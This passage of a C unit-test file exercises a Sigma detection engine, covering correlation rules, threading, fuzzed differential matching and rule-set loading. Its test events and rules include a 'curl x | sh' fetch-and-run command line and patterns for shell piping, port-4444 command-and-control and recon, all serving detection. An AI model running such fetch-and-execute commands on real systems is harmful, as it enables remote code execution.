	assert_string_equal(vrec__get(&out, VF_RuleTitle, &len), "R");
	assert_string_equal(vrec__get(&out, VF_RuleLevel, &len), "high");
	assert_string_equal(vrec__get(&out, VF_Tags, &len), "attack.execution,attack.t1059");
	assert_string_equal(vrec__get(&out, VF_MatchedEventID, &len), "1");
	assert_string_equal(vrec__get(&out, VF_MatchedSequenceNumber, &len), "99");
	assert_string_equal(vrec__get(&out, VF_ProcessGuid, &len), "{1-2-3}");
	assert_string_equal(vrec__get(&out, VF_Image, &len), "/usr/bin/curl");
	assert_string_equal(vrec__get(&out, VF_UtcTime, &len), "2026-01-02 03:04:05.678");
	assert_string_equal(out.computer, "h1");
	sigma__free(e);
}

struct reent {
	int rc;
	struct sigma_engine *e;
};

/* A callback that tries to match again from inside the match. */
static int reenter(const struct sigma_rule_info *r, const struct vrec *ev, void *ctx)
{
	struct reent *c = ctx;

	c->rc = sigma__match(c->e, ev, NULL, NULL);
	return 0;
}

static void test_reentry(void **state)
{
	struct reps rp = {0};
	struct reent c = {0, NULL};

	c.e = det("  a:\n    Image|endswith: /curl\n  condition: a\n", &rp);
	assert_int_equal(sigma__match(c.e, mk(1, "Image", "/bin/curl", NULL), reenter, &c), 1);
	assert_int_equal(c.rc, -EDEADLK);
	/* and the engine is usable afterwards */
	assert_int_equal(run(c.e, mk(1, "Image", "/bin/curl", NULL)), 1);
	sigma__free(c.e);
}

struct thr {
	struct sigma_engine *e;
	int matches;
};

static void *thr_main(void *arg)
{
	struct thr *t = arg;
	struct vrec *r = calloc(1, sizeof(*r));

	for (int i = 0; i < 20000 && r; i++) {
		vrec__reset(r, schema__event(1));
		vrec__set_str(r, VF_Image, i % 2 ? "/usr/bin/curl" : "/usr/bin/ls");
		vrec__set_str(r, VF_CommandLine, i % 4 == 1 ? "curl x | sh" : "ls -l");
		t->matches += sigma__match(t->e, r, NULL, NULL);
	}
	free(r);
	sigma__thread_done();
	return NULL;
}

/* Detection rules alone may be matched from several threads at once. */
static void test_threads(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    Image|endswith: /curl\n  b:\n"
				     "    CommandLine|contains: '| sh'\n  condition: a and b\n",
				     &rp);
	pthread_t th[4];
	struct thr t[4];

	for (int i = 0; i < 4; i++) {
		t[i] = (struct thr){e, 0};
		assert_int_equal(pthread_create(&th[i], NULL, thr_main, &t[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		pthread_join(th[i], NULL);
		assert_int_equal(t[i].matches, 5000);
	}
	sigma__free(e);
}

/* ---- correlations ----------------------------------------------------- */

static const char *base_rules =
    "title: Failed su\nid: 5e0c0000-0000-4000-8000-000000000001\nname: su_fail\n"
    "logsource:\n  category: process_creation\ndetection:\n  a:\n    Image|endswith: /su\n"
    "  condition: a\n---\n"
    "title: Recon\nid: 5e0c0000-0000-4000-8000-000000000002\nname: recon\n"
    "logsource:\n  category: process_creation\ndetection:\n  a:\n    Image|endswith:\n"
    "      - /whoami\n      - /id\n  condition: a\n---\n"
    "title: Conn\nid: 5e0c0000-0000-4000-8000-000000000003\nname: conn\n"
    "logsource:\n  category: network_connection\ndetection:\n  a:\n"
    "    DestinationPort: 4444\n  condition: a\n---\n";

static struct sigma_engine *corr(const char *c, struct reps *rp)
{
	static char buf[8192];

	snprintf(buf, sizeof(buf), "%s%s", base_rules, c);
	return eng(buf, rp);
}

static const struct vrec *ev_at(unsigned ev, int sec, const char *f1, const char *v1,
				const char *f2, const char *v2)
{
	mk(ev, f1, v1, f2, v2, NULL);
	rec.ts_ns = (uint64_t)(1700000000 + sec) * 1000000000ull;
	return &rec;
}

static void test_corr_event_count(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e =
	    corr("title: Brute su\nid: 5e0c0000-0000-4000-8000-00000000000a\n"
		 "correlation:\n  type: event_count\n  rules:\n    - su_fail\n"
		 "  group-by:\n    - User\n  timespan: 1m\n  condition:\n    gte: 3\n",
		 &rp);
	struct hits h = {0};

	assert_int_equal(rp.n[SIGMA_LOADED], 4);
	assert_int_equal(sigma__correlation_count(e), 1);
	/* generate defaults to false: the base rule alone alerts nothing */
	assert_int_equal(run(e, ev_at(1, 0, "Image", "/bin/su", "User", "bob")), 0);
	assert_int_equal(run(e, ev_at(1, 10, "Image", "/bin/su", "User", "alice")), 0);
	assert_int_equal(run(e, ev_at(1, 20, "Image", "/bin/su", "User", "bob")), 0);
	/* bob's third within a minute */
	sigma__match(e, ev_at(1, 30, "Image", "/bin/su", "User", "bob"), collect, &h);
	assert_string_equal(h.titles, "Brute su");
	/* fired: starts over */
	assert_int_equal(run(e, ev_at(1, 31, "Image", "/bin/su", "User", "bob")), 0);
	/* alice: events spread beyond the window never reach 3 */
	assert_int_equal(run(e, ev_at(1, 80, "Image", "/bin/su", "User", "alice")), 0);
	assert_int_equal(run(e, ev_at(1, 150, "Image", "/bin/su", "User", "alice")), 0);
	sigma__free(e);

	/* generate: true keeps the base rule's own alerts */
	memset(&rp, 0, sizeof(rp));
	e = corr("title: C\ncorrelation:\n  type: event_count\n  rules: su_fail\n"
		 "  timespan: 10s\n  generate: true\n  condition:\n    gt: 1\n",
		 &rp);
	assert_int_equal(run(e, ev_at(1, 0, "Image", "/bin/su", "User", "x")), 1);
	assert_int_equal(run(e, ev_at(1, 5, "Image", "/bin/su", "User", "y")), 2);
	sigma__free(e);
}

static void test_corr_value_count(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e =
	    corr("title: Many recon\ncorrelation:\n  type: value_count\n"
		 "  rules: [recon]\n  group-by: [ParentProcessGuid]\n"
		 "  timespan: 5m\n  condition:\n    field: Image\n    gte: 2\n",
		 &rp);

	assert_int_equal(rp.n[SIGMA_LOADED], 4);
	mk(1, "Image", "/usr/bin/id", "ParentProcessGuid", "{p1}", NULL);
	rec.ts_ns = 1;
	assert_int_equal(run(e, &rec), 0);
	/* the same value again does not count twice */
	assert_int_equal(run(e, &rec), 0);
	mk(1, "Image", "/usr/bin/whoami", "ParentProcessGuid", "{p2}", NULL);
	assert_int_equal(run(e, &rec), 0); /* another group */
	mk(1, "Image", "/usr/bin/whoami", "ParentProcessGuid", "{p1}", NULL);
	assert_int_equal(run(e, &rec), 1);
	sigma__free(e);
}

static void test_corr_temporal(void **state)
{
	struct reps rp = {0};
	/* aliases: the process is ProcessGuid in both, renamed "proc" */
	struct sigma_engine *e =
	    corr("title: Recon then C2\ncorrelation:\n  type: temporal_ordered\n"
		 "  rules:\n    - recon\n    - conn\n  group-by:\n    - proc\n"
		 "  aliases:\n    proc:\n      recon: ProcessGuid\n      conn: ProcessGuid\n"
		 "  timespan: 30s\n",
		 &rp);

	assert_int_equal(rp.n[SIGMA_LOADED], 4);
	/* wrong order: connection first */
	assert_int_equal(run(e, ev_at(3, 0, "DestinationPort", "4444", "ProcessGuid", "{a}")), 0);
	assert_int_equal(run(e, ev_at(1, 1, "Image", "/bin/id", "ProcessGuid", "{a}")), 0);
	/* now in order, within 30 s */
	assert_int_equal(run(e, ev_at(3, 5, "DestinationPort", "4444", "ProcessGuid", "{a}")), 1);
	/* in order but too late */
	assert_int_equal(run(e, ev_at(1, 100, "Image", "/bin/id", "ProcessGuid", "{b}")), 0);
	assert_int_equal(run(e, ev_at(3, 200, "DestinationPort", "4444", "ProcessGuid", "{b}")), 0);
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = corr("title: Both\ncorrelation:\n  type: temporal\n  rules: [recon, conn]\n"
		 "  group-by: [ProcessGuid]\n  timespan: 30s\n",
		 &rp);
	assert_int_equal(run(e, ev_at(3, 0, "DestinationPort", "4444", "ProcessGuid", "{a}")), 0);
	assert_int_equal(run(e, ev_at(1, 1, "Image", "/bin/id", "ProcessGuid", "{a}")), 1);
	sigma__free(e);

	/* problems are reported on the correlation */
	memset(&rp, 0, sizeof(rp));
	e = corr("title: Bad\ncorrelation:\n  type: temporal\n  rules: [nosuch]\n"
		 "  timespan: 30s\n",
		 &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_string_equal(rp.last, "correlation names unknown rule 'nosuch'");
	sigma__free(e);
	memset(&rp, 0, sizeof(rp));
	e = corr("title: Bad\ncorrelation:\n  type: event_count\n  rules: [conn]\n"
		 "  group-by: [CommandLine]\n  timespan: 30s\n  condition:\n    gte: 2\n",
		 &rp);
	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 1);
	assert_string_equal(rp.last, "field 'CommandLine' is not in the events of rule 'conn'");
	sigma__free(e);
	memset(&rp, 0, sizeof(rp));
	e = corr("title: Bad\ncorrelation:\n  type: event_count\n  rules: [conn]\n"
		 "  timespan: 3 parsecs\n  condition:\n    gte: 2\n",
		 &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_string_equal(rp.last, "invalid timespan '3 parsecs'");
	sigma__free(e);
}

static void test_corr_chain(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e =
	    corr("title: Many su\nname: many_su\ncorrelation:\n  type: event_count\n"
		 "  rules: [su_fail]\n  group-by: [User]\n  timespan: 1m\n"
		 "  condition:\n    gte: 2\n---\n"
		 "title: Brute then C2\ncorrelation:\n  type: temporal_ordered\n"
		 "  rules: [many_su, conn]\n  group-by: [User]\n  timespan: 5m\n",
		 &rp);
	struct hits h = {0};

	assert_int_equal(rp.n[SIGMA_LOADED], 5);
	assert_int_equal(run(e, ev_at(1, 0, "Image", "/bin/su", "User", "bob")), 0);
	/* many_su fires, but only feeds the chain (generate is false) */
	assert_int_equal(run(e, ev_at(1, 10, "Image", "/bin/su", "User", "bob")), 0);
	assert_int_equal(run(e, ev_at(3, 20, "DestinationPort", "4444", "User", "alice")), 0);
	sigma__match(e, ev_at(3, 30, "DestinationPort", "4444", "User", "bob"), collect, &h);
	assert_string_equal(h.titles, "Brute then C2");
	sigma__free(e);

	/* cycles are refused */
	memset(&rp, 0, sizeof(rp));
	e = corr("title: A\nname: ca\ncorrelation:\n  type: temporal\n  rules: [cb, conn]\n"
		 "  timespan: 1m\n---\ntitle: B\nname: cb\ncorrelation:\n  type: temporal\n"
		 "  rules: [ca, recon]\n  timespan: 1m\n",
		 &rp);
	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 2);
	assert_int_equal(rp.n[SIGMA_LOADED], 3);
	assert_int_equal(run(e, ev_at(1, 0, "Image", "/bin/id", "User", "bob")), 1);
	sigma__free(e);
}

static void test_corr_bounded(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = corr("title: C\ncorrelation:\n  type: event_count\n"
				      "  rules: su_fail\n  group-by: [User]\n  timespan: 1h\n"
				      "  condition:\n    gte: 2\n",
				      &rp);
	char user[32];

	/* many more groups than the bound: memory stays bounded, and a
	 * group seen recently still counts */
	for (int i = 0; i < SIGMA_CORR_MAX_GROUPS * 3; i++) {
		snprintf(user, sizeof(user), "u%d", i);
		assert_int_equal(run(e, ev_at(1, i, "Image", "/bin/su", "User", user)), 0);
	}
	snprintf(user, sizeof(user), "u%d", SIGMA_CORR_MAX_GROUPS * 3 - 1);
	assert_int_equal(
	    run(e, ev_at(1, 3 * SIGMA_CORR_MAX_GROUPS, "Image", "/bin/su", "User", user)), 1);
	sigma__free(e);
}

/* ---- differential: lazy literals and triggers vs scanning everything ---- */

static unsigned long long dstate = 0x9e3779b97f4a7c15ull;

static unsigned dr(unsigned n)
{
	dstate ^= dstate << 13;
	dstate ^= dstate >> 7;
	dstate ^= dstate << 17;
	return (unsigned)(dstate % n);
}

static const char *dvocab[] = {"sh",  "bash", "/bin/",	 "-c",	  "curl", "wget", "*", "?",
			       "a*b", "x",    "/BIN/SH", "Sh -C", "\\*",  "tmp",  ""};
#define NDV (sizeof(dvocab) / sizeof(dvocab[0]))

static void gen_rule(char *buf, size_t cap, int id)
{
	static const char *fields[] = {"CommandLine", "Image", "ParentImage", "User"};
	static const char *mods[] = {
	    "",	      "|contains",	 "|startswith", "|endswith", "|contains|all",
	    "|cased", "|contains|cased", "|re"};
	size_t len = (size_t)snprintf(buf, cap,
				      "title: r%d\nlogsource:\n  category: process_creation\n"
				      "detection:\n",
				      id);
	int nsel = 1 + (int)dr(3);

	for (int k = 0; k < nsel; k++) {
		int nitems = 1 + (int)dr(2);

		len += (size_t)snprintf(buf + len, cap - len, "  sel%d:\n", k);
		for (int i = 0; i < nitems; i++) {
			const char *mod = mods[dr(8)];
			int nv = 1 + (int)dr(3);

			len += (size_t)snprintf(buf + len, cap - len, "    %s%s:\n",
						fields[i * 2 + dr(2)], mod);
			for (int v = 0; v < nv; v++) {
				const char *w =
				    strcmp(mod, "|re") == 0 ? "b?a[sz]h" : dvocab[dr(NDV)];

				len += (size_t)snprintf(buf + len, cap - len, "      - '%s'\n", w);
			}
		}
	}
	static const char *conds[] = {"sel0",
				      "1 of sel*",
				      "all of sel*",
				      "not sel0",
				      "sel0 and not 1 of sel*",
				      "(sel0 or not sel0) and 1 of them"};
	snprintf(buf + len, cap - len, "  condition: %s\n", conds[dr(nsel > 1 ? 6 : 4)]);
}

struct dres {
	int n;
	uint32_t sum;
};

static int dcollect(const struct sigma_rule_info *r, const struct vrec *ev, void *ctx)
{
	struct dres *d = ctx;

	d->n++;
	d->sum = d->sum * 31 + (uint32_t)atoi(r->title + 1);
	return 0;
}

static void test_differential(void **state)
{
	static char rules[200000], one[2048];
	size_t len = 0;

	for (int i = 0; i < 300; i++) {
		gen_rule(one, sizeof(one), i);
		len += (size_t)snprintf(rules + len, sizeof(rules) - len, "%s---\n", one);
	}
	struct sigma_engine *a = sigma__new(), *b = sigma__new();
	assert_int_equal(sigma__add_buf(a, rules, len, "d.yml"), 0);
	assert_int_equal(sigma__add_buf(b, rules, len, "d.yml"), 0);
	b->all_triggers = true;
	assert_true(sigma__compile(a, NULL, NULL) >= 0);
	assert_true(sigma__compile(b, NULL, NULL) >= 0);
	assert_int_equal(sigma__rule_count(a), sigma__rule_count(b));
	assert_true(sigma__rule_count(a) > 250);

	int total = 0;
	for (int i = 0; i < 5000; i++) {
		char cl[128] = "", img[64] = "", pimg[64] = "";
		struct dres ra = {0}, rb = {0};

		for (int k = 0, n = (int)dr(5); k < n; k++) {
			strcat(cl, dvocab[dr(NDV)]);
			strcat(cl, dr(2) ? " " : "");
		}
		strcat(img, dr(2) ? "/bin/" : "/usr/bin/");
		strcat(img, dvocab[dr(NDV)]);
		strcat(pimg, dvocab[dr(NDV)]);
		mk(1, "CommandLine", cl, "Image", img, "ParentImage", pimg, "User",
		   dr(2) ? "root" : "x", NULL);
		sigma__match(a, &rec, dcollect, &ra);
		sigma__match(b, &rec, dcollect, &rb);
		if (ra.n != rb.n || ra.sum != rb.sum)
			print_error("differs on CommandLine='%s' Image='%s' ParentImage='%s'\n", cl,
				    img, pimg);
		assert_int_equal(ra.n, rb.n);
		assert_int_equal(ra.sum, rb.sum);
		total += ra.n;
	}
	assert_true(total > 1000); /* the comparison saw real matches */
	sigma__free(a);
	sigma__free(b);
}

/* ---- rule sets -------------------------------------------------------- */

struct setrep {
	int n[4];
	int bad_in_cats;
};

static void on_set(const struct sigma_report *r, void *ctx)
{
	struct setrep *s = ctx;

	s->n[r->status]++;
	if (r->status == SIGMA_UNSUPPORTED || r->status == SIGMA_ERROR)
		print_message("%s:%d: %s\n", r->file, r->line, r->msg);
}

static void test_sigmahq_linux(void **state)
{
	struct sigma_engine *e = sigma__new();
	struct setrep s = {0};

	assert_int_equal(sigma__add_path(e, "tests/fixtures/sigmahq"), 0);
	assert_int_equal(sigma__compile(e, on_set, &s), 0);
	assert_int_equal(s.n[0] + s.n[1] + s.n[2] + s.n[3], 248);
	/* process_creation 144 + file_event 18 + network_connection 5, and
	 * 46 of the 54 auditd rules (test_sigma_auditd.c) */
	assert_int_equal(s.n[SIGMA_LOADED], 213);
	assert_int_equal(s.n[SIGMA_UNSUPPORTED], 0);
	assert_int_equal(s.n[SIGMA_ERROR], 0);
	assert_int_equal(s.n[SIGMA_NO_SOURCE], 35);
	assert_int_equal(sigma__rule_count(e), 213);
	sigma__free(e);

	/* and each rule in the three categories on its own */
	static const char *dirs[] = {"tests/fixtures/sigmahq/rules/linux/process_creation",
				     "tests/fixtures/sigmahq/rules/linux/network_connection",
				     "tests/fixtures/sigmahq/rules/linux/file_event"};
	int total = 0;
	for (size_t d = 0; d < 3; d++) {
		memset(&s, 0, sizeof(s));
		e = sigma__new();
		assert_int_equal(sigma__add_path(e, dirs[d]), 0);
		assert_int_equal(sigma__compile(e, on_set, &s), 0);
		assert_int_equal(s.n[SIGMA_LOADED], s.n[0] + s.n[1] + s.n[2] + s.n[3]);
		total += s.n[SIGMA_LOADED];
		sigma__free(e);
	}
	assert_int_equal(total, 135); /* 122 + 5 + 8 under rules/linux */
}

static void test_vigil_rules(void **state)
{
	struct sigma_engine *e = sigma__new();
	struct setrep s = {0};

	assert_int_equal(sigma__add_path(e, "rules/sigma"), 0);
	assert_int_equal(sigma__compile(e, on_set, &s), 0);
	assert_true(s.n[SIGMA_LOADED] >= 6);
	assert_int_equal(s.n[SIGMA_NO_SOURCE], 0);
	/* metadata every vigil rule carries */
	for (size_t i = 0; i < sigma__rule_count(e); i++) {
		const struct sigma_rule_info *in = &e->rules[i]->info;

		assert_string_equal(in->status, "experimental");
		assert_int_equal(strlen(in->id), 36);
		assert_non_null(strstr(in->tags, "attack."));
		assert_true(in->level[0] != '\0');
		if (!in->correlation)
			assert_true(in->falsepositives[0] != '\0');
	}
	sigma__free(e);
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "r");
	static char buf[65536];
	size_t n;

	assert_non_null(f);
	n = fread(buf, 1, sizeof(buf) - 1, f);
	buf[n] = '\0';
	fclose(f);
	return strdup(buf);
}

static void test_scan_fixture(void **state)
{
	char out[] = "/tmp/vigil_scan_XXXXXX";
	int fd = mkstemp(out);
	char *argv[] = {"sigma",
			"scan",
			"--rules",
			"tests/fixtures/sigma/rules",
			"--rules",
			"rules/sigma",
			"--rules",
			"tests/fixtures/sigmahq/rules/linux/process_creation",
			"-o",
			out,
			"tests/fixtures/sigma/events.jsonl",
			NULL};
	char *got, *want;

	assert_true(fd >= 0);
	close(fd);
	/* 65: one line of the fixture is not an event */
	assert_int_equal(cmd_sigma(11, argv), 65);
	got = slurp(out);
	want = slurp("tests/fixtures/sigma/expected.jsonl");
	assert_string_equal(got, want);
	unlink(out);
	free(got);
	free(want);
}

static void test_check_cli(void **state)
{
	char *ok[] = {"sigma", "check", "rules/sigma", NULL};
	char *bad[] = {"sigma", "check", "tests/fixtures/sigma/rules", "/nonexistent/x.yml", NULL};
	char *usage[] = {"sigma", "check", NULL};
	FILE *saved = stdout;

	/* keep the per-rule lines out of the test log */
	stdout = fopen("/dev/null", "w");
	assert_int_equal(cmd_sigma(3, ok), 0);
	assert_int_equal(cmd_sigma(4, bad), 65);
	assert_int_equal(cmd_sigma(2, usage), 64);
	fclose(stdout);
	stdout = saved;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_exact_and_case),
	    cmocka_unit_test(test_contains_starts_ends),
	    cmocka_unit_test(test_wildcards_and_escapes),
	    cmocka_unit_test(test_lists_and_all),
	    cmocka_unit_test(test_regex),
	    cmocka_unit_test(test_cidr),
	    cmocka_unit_test(test_base64),
	    cmocka_unit_test(test_utf16),
	    cmocka_unit_test(test_windash),
	    cmocka_unit_test(test_exists_null_empty),
	    cmocka_unit_test(test_neq_numeric_fieldref),
	    cmocka_unit_test(test_time_modifiers),
	    cmocka_unit_test(test_expand),
	    cmocka_unit_test(test_keywords),
	    cmocka_unit_test(test_conditions),
	    cmocka_unit_test(test_unicode),
	    cmocka_unit_test(test_diagnostics),
	    cmocka_unit_test(test_alert_record),
	    cmocka_unit_test(test_reentry),
	    cmocka_unit_test(test_threads),
	    cmocka_unit_test(test_corr_event_count),
	    cmocka_unit_test(test_corr_value_count),
	    cmocka_unit_test(test_corr_temporal),
	    cmocka_unit_test(test_corr_chain),
	    cmocka_unit_test(test_corr_bounded),
	    cmocka_unit_test(test_differential),
	    cmocka_unit_test(test_sigmahq_linux),
	    cmocka_unit_test(test_vigil_rules),
	    cmocka_unit_test(test_scan_fixture),
	    cmocka_unit_test(test_check_cli),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
